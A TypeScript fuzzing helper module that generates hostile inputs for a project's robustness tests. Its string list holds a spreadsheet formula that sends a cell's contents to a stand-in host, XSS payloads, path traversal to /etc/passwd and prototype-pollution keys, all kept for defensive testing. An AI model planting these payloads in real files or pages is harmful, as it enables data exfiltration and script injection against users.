/** What somebody hostile would write into a name, a file or a reply, and how often the fuzzing suites try it. */
import fc from 'fast-check';
import { Stop } from '../../src/domain/problem.ts';

/** As often as a suite tries in every run of the tests, times `MEDIASWEEP_FUZZ`, e.g. 100 for a night. */
export function tries(usual: number): { readonly numRuns: number; readonly seed?: number } {
  const times = Number(process.env['MEDIASWEEP_FUZZ'] ?? 1);
  const seed = process.env['MEDIASWEEP_SEED'];
  return { numRuns: Math.ceil(usual * times), ...(seed !== undefined && { seed: Number(seed) }) };
}

/** For the same reason, how long such a suite may take. */
export const fuzzTimeoutMs = 60_000 * Math.max(1, Number(process.env['MEDIASWEEP_FUZZ'] ?? 1));

/** Text that means something to a browser, a spreadsheet, a shell, a path, a parser or the object model. */
export const nastyTexts: readonly string[] = [
  '',
  ' ',
  '\0',
  '\r\n',
  '\t=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20x',
  '\u200B=1+1',
  '</script><script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '"><svg onload="window.hacked = 1">',
  '<!--',
  ']]>',
  '${HOME}',
  '{{7*7}}',
  'javascript:window.hacked=1',
  'data:text/html,<script>window.hacked=1</script>',
  '../../../../etc/passwd',
  '/etc/passwd',
  'C:\\Windows\\system32',
  '..',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'NaN',
  '1e999',
  '-0',
  '010',
  '9007199254740993',
  '99999999999999999999999999999999999999',
  '\u202Egpj.exe',
  '\uD800',
  '\uDC00x',
  '\uFEFF',
  '\u2028',
  '%00',
  '%2e%2e%2f',
  '%E0%A4%A',
  '用户\u{1F600}e\u0301',
  'a'.repeat(2000),
  '"'.repeat(50),
  '[[[[[[[[[[[[[[[[[[[[',
  '&lol9;',
  '!!js/function "x"',
  '*a',
  '2026-02-30T25:61:61Z',
];

export const nastyText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...nastyTexts) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...nastyTexts), fc.string()).map((two) => two.join('')) },
);

const nastyNumber = fc.constantFrom(
  0,
  -0,
  -1,
  0.1,
  1e-300,
  1e300,
  2 ** 31,
  2 ** 53,
  -(2 ** 53) - 1,
  Number.MAX_VALUE,
);

/** Plain data with keys that are special to the object model among them. */
export const nastyValue: fc.Arbitrary<unknown> = fc.letrec<{ tree: unknown }>((tie) => ({
  tree: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    nastyText,
    nastyNumber,
    fc.constantFrom(null, true, false),
    fc.array(tie('tree'), { maxLength: 4 }),
    fc
      .array(
        fc.tuple(fc.oneof(nastyText, fc.constantFrom('__proto__', 'constructor', 'then')), tie('tree')),
        {
          maxLength: 4,
        },
      )
      .map((entries) => {
        const made: Record<string, unknown> = {};
        for (const [key, value] of entries) {
          Object.defineProperty(made, key, { value, enumerable: true, configurable: true, writable: true });
        }
        return made;
      }),
  ),
})).tree;

/** JSON nested so deeply that whoever walks it by recursion falls. */
export const deepTexts: readonly string[] = [
  `${'['.repeat(30_000)}${']'.repeat(30_000)}`,
  `${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}`,
  '['.repeat(30_000),
];

/** The same data in which the value at one place, counted through the whole tree and around, is another. */
export function replaceAt(data: unknown, place: number, value: unknown): unknown {
  let total = 0;
  const count = (one: unknown): void => {
    total += 1;
    if (typeof one === 'object' && one !== null) for (const inner of Object.values(one)) count(inner);
  };
  count(data);
  let seen = -1;
  const target = place % total;
  const walk = (one: unknown): unknown => {
    seen += 1;
    if (seen === target) return value;
    if (Array.isArray(one)) return one.map(walk);
    if (typeof one !== 'object' || one === null) return one;
    return Object.fromEntries(Object.entries(one).map(([key, inner]) => [key, walk(inner)]));
  };
  return walk(data);
}

interface Mutation {
  readonly what: 'flip' | 'cut' | 'repeat' | 'insert' | 'end';
  /** Share of the length, from 0 to 1. */
  readonly at: number;
  readonly length: number;
  readonly bytes: Buffer;
}

const mutation: fc.Arbitrary<Mutation> = fc.record({
  what: fc.constantFrom('flip', 'cut', 'repeat', 'insert', 'end'),
  at: fc.double({ min: 0, max: 0.999_999, noNaN: true }),
  length: fc.nat({ max: 64 }),
  bytes: fc.oneof(
    fc.uint8Array({ minLength: 1, maxLength: 8 }).map((bytes) => Buffer.from(bytes)),
    nastyText.map((text) => Buffer.from(text)),
  ),
});

/** Bytes that somebody broke in a few places. */
export function broken(originals: readonly (string | Uint8Array)[]): fc.Arbitrary<Buffer> {
  return fc
    .tuple(fc.constantFrom(...originals), fc.array(mutation, { minLength: 1, maxLength: 6 }))
    .map(([original, mutations]) =>
      mutations.reduce<Buffer>((bytes, change) => mutate(bytes, change), Buffer.from(original)),
    );
}

function mutate(bytes: Buffer, { what, at, length, bytes: given }: Mutation): Buffer {
  const place = Math.floor(at * bytes.length);
  const [before, after] = [bytes.subarray(0, place), bytes.subarray(place)];
  switch (what) {
    case 'flip': {
      const flipped = Buffer.from(bytes);
      if (place < flipped.length) flipped[place] = (flipped[place] ?? 0) ^ (1 << (length % 8));
      return flipped;
    }
    case 'cut':
      return Buffer.concat([before, after.subarray(length)]);
    case 'repeat':
      return Buffer.concat([before, after.subarray(0, length), after]);
    case 'insert':
      return Buffer.concat([before, given, after]);
    case 'end':
      return before;
  }
}

/** What a work came to: its value, or the words of a `Stop`, the only thing that may be thrown for what others wrote. */
export async function endOf<Value>(
  work: () => Promise<Value> | Value,
): Promise<{ readonly value: Value } | { readonly stop: Stop }> {
  try {
    return { value: await work() };
  } catch (error) {
    if (error instanceof Stop) return { stop: error };
    throw error;
  }
}
